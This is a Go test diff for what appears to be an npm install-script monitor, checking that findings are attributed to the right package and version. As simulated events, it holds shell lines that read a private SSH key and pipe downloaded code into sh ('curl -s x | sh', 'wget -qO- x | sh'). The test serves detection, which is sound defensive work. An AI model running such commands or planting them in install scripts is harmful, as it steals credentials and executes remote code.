@@ -295,3 +295,29 @@ func TestIsManager(t *testing.T) {
 		}
 	}
 }
+
+// TestAttributionLearnsFromChildren: an exec's environment is read before the exec
+// (a forked child's is its parent's), so the `sh -c` npm starts for a script is
+// told by its directory at best; its children's environment names the package and
+// version, and what the script did is filed under them in the end.
+func TestAttributionLearnsFromChildren(t *testing.T) {
+	procs := fakeProcs{10: {parent: 1}, 20: {parent: 10}, 21: {parent: 20}, 30: {parent: 10}, 31: {parent: 30}}
+	env := map[string]string{"npm_package_name": "evil-e2e", "npm_package_version": "1.0.0", "npm_lifecycle_event": "postinstall"}
+	r := newTestRecorder("npm", procs)
+	r.OnEvent(execEv(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
+	// A dependency's script: its dir names it, without a version.
+	r.OnEvent(execEv(20, nil, "/p/node_modules/evil-e2e", "sh", "-c", "cat ~/.ssh/id_rsa; curl -s x | sh"))
+	r.OnEvent(execEv(21, env, "/p/node_modules/evil-e2e", "cat", "/root/.ssh/id_rsa"))
+	r.onTouch(DecoyTouch{Path: "~/.ssh/id_rsa", Secret: true, Op: "opened"})
+	// The project's own script: its dir (the project) names nothing.
+	root := map[string]string{"npm_package_name": "app", "npm_package_version": "2.0.0"}
+	r.OnEvent(execEv(30, nil, "/p", "sh", "-c", "wget -qO- x | sh"))
+	r.OnEvent(execEv(31, root, "/p", "wget", "-qO-", "x"))
+	got := summary(r.Findings())
+	want := "app@2.0.0 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n" +
+		"evil-e2e@1.0.0 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n" +
+		"evil-e2e@1.0.0 PB-BEHAVIOUR-SECRET-READ high\n"
+	if got != want {
+		t.Errorf("observations:\n%swant:\n%s", got, want)
+	}
+}
